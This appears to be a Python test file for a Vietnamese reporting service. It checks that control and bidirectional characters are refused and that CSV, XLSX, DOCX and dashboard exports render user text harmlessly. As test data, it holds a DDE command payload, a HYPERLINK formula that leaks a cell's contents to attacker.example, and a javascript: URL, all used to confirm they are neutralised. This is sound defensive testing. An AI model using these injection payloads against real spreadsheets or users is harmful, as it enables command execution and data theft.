"""Hostile text: refused at the edge with a Vietnamese reason, and harmless in every output
whatever the stream already holds (the rules are checked over whole Unicode categories, not a
few examples)."""

import csv
import io
import json
import sys
import unicodedata
import zipfile
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from services.campaigns.domain.commands import (
    CreateAccount,
    LogActivity,
    ReturnReport,
    SubmitReport,
)
from services.campaigns.domain.errors import FIELD_LABELS
from services.reporting.documents.docx_report import build_docx
from services.reporting.documents.model import ActivityRow
from services.reporting.documents.xlsx_report import build_xlsx
from services.reporting.export import _csv
from shared.replies import ProblemError
from shared.textrules import BIDI_CONTROLS, printable, spreadsheet_cell
from shared.validation import parse_request
from tests.unit.document_sample import rows, sample_report

LOG = {"unit_id": "pbgdpl", "task_id": "5", "date": "2024-03-08", "form": "conference"}
CONTROLS = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cc"]
FORMATS = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"]
POISON = "".join(CONTROLS[:32]) + "".join(sorted(BIDI_CONTROLS)) + "\ufffe\uffff"


def refusal(model: Any, body: dict[str, Any]) -> dict[str, str]:
    with pytest.raises(ProblemError) as refused:
        parse_request(model, json.dumps(body).encode(), FIELD_LABELS, "invalid_command")
    fields: dict[str, str] = refused.value.problem.fields
    return fields


def kept(model: Any, body: dict[str, Any]) -> Any:
    return parse_request(model, json.dumps(body).encode(), FIELD_LABELS, "invalid_command")


def test_every_control_character_is_refused_in_a_title_and_all_but_newline_tab_in_a_note():
    for char in CONTROLS:
        assert "title" in refusal(LogActivity, {**LOG, "title": f"Hội{char}nghị"}), repr(char)
        if char not in "\n\t\r":
            assert "note" in refusal(LogActivity, {**LOG, "title": "Hội nghị", "note": char})
    note = kept(LogActivity, {**LOG, "title": "Hội nghị", "note": " a\r\nb\tc\rd "}).note
    assert note == "a\nb\tc\nd"


def test_invisible_and_bidirectional_characters_are_refused_in_names_and_titles():
    for char in FORMATS:
        assert "title" in refusal(LogActivity, {**LOG, "title": f"Hội{char}nghị"}), repr(char)
        body = {"user_id": "x", "name": f"Ng{char}a", "role": "office", "password": "12345678"}
        assert "name" in refusal(CreateAccount, body)
    for char in BIDI_CONTROLS:  # anywhere: they make text read otherwise than it is
        body = {"period_id": "p", "unit_id": "u", "results": f"Đã {char}làm"}
        assert refusal(SubmitReport, body)["results"].startswith("Kết quả")
    message = refusal(LogActivity, {**LOG, "title": "Hội\u202enghị"})["title"]
    assert "đảo chiều" in message and "U+202E" in message


def test_a_title_blank_once_trimmed_is_refused_and_text_is_kept_in_nfc():
    for blank in ("   ", "\u3000\u00a0 ", " a "):
        assert "title" in refusal(LogActivity, {**LOG, "title": blank})
    decomposed = unicodedata.normalize("NFD", "  Hội nghị tuyên truyền  ")
    title = kept(LogActivity, {**LOG, "title": decomposed}).title
    assert title == unicodedata.normalize("NFC", "Hội nghị tuyên truyền")
    comment = refusal(ReturnReport, {"report_id": "r", "comment": "  \n "})["comment"]
    assert "để trống" in comment


def test_printable_drops_what_xml_cannot_hold_and_keeps_vietnamese():
    assert printable("Hội\x00 nghị\x01\u202e\ufffe\n\t") == "Hội nghị\n\t"
    assert printable("Bình đẳng giới 😀") == "Bình đẳng giới 😀"


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"]
)
def test_a_csv_cell_that_a_spreadsheet_would_run_starts_with_a_quote(text: str):
    assert spreadsheet_cell(text) == "'" + printable(text)


def test_csv_export_neutralises_text_cells_and_keeps_numbers():
    out = _csv(
        [{"title": "=cmd|' /C calc'!A0", "men": -1, "audience": "Cán bộ"}],
        ["title", "men", "audience"],
    )
    [_, row] = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert row == ["'=cmd|' /C calc'!A0", "-1", "Cán bộ"]


def poisoned_report():  # type: ignore[no-untyped-def]
    activity = rows()[0].model_dump()
    poisoned = ActivityRow.model_validate(
        {
            **activity,
            "title": '=HYPERLINK("http://attacker.example/"&A1,"Bấm")' + POISON,
            "audience": "=cmd|' /C calc'!A0\x00",
            "evidence_url": "javascript:alert(1)",
        }
    )
    return sample_report(activities=[poisoned, *rows()[1:]])


def test_a_poisoned_activity_compiles_into_a_workbook_of_text_cells():
    data = build_xlsx(poisoned_report())
    sheet = load_workbook(io.BytesIO(data))["Hoạt động"]
    title, audience, link = sheet.cell(2, 5), sheet.cell(2, 7), sheet.cell(2, 12)
    assert title.data_type == "s" and title.value.startswith("=HYPERLINK(")
    assert audience.data_type == "s" and audience.value == "=cmd|' /C calc'!A0"
    assert link.hyperlink is None
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the workbook


def test_a_poisoned_activity_compiles_into_a_document_of_plain_text():
    report = poisoned_report()
    narrative = report.results[0].model_copy(update={"text": "Đã làm\x0b\x1f\u202e xong"})
    data = build_docx(report.model_copy(update={"results": [narrative, *report.results[1:]]}))
    text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
    assert "Đã làm xong" in text


def test_user_text_in_the_dashboards_markdown_is_escaped_and_never_a_link():
    from dashboard.format import literal

    shown = literal("![x](http://a.example/i.png) www.b.example c@d.example\n# Đã duyệt")
    assert "![" not in shown and "](" not in shown and "\n#" not in shown
    assert "://" not in shown and "www." not in shown and "c@" not in shown
    assert shown.replace("\\", "").replace("\u2060", "").replace("  \n", "\n") == (
        "![x](http://a.example/i.png) www.b.example c@d.example\n# Đã duyệt"
    )
